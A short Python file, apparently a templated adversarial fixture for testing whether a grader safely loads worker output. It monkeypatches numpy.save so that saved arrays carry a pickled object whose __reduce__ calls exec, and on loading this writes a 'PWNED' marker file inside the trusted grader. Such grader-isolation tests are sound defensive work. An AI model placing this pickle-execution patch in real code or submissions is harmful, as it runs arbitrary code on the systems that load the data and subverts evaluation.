# @@include solutions/q1_expressivity.py
# Attack: make the worker's own encoder send pickled objects, whose loading would run code in the trusted grader.
import numpy as _np


class _Payload:
    def __reduce__(self):
        return (exec, ("open('@@OUT@@/PWNED-@@MARKER@@', 'w').write('a pickle ran in the grader')",))


_save = _np.save


def _save_pickle(file, arr, allow_pickle=True, fix_imports=True):
    _save(file, _np.array([_Payload()], dtype=object), allow_pickle=True)


_np.save = _save_pickle
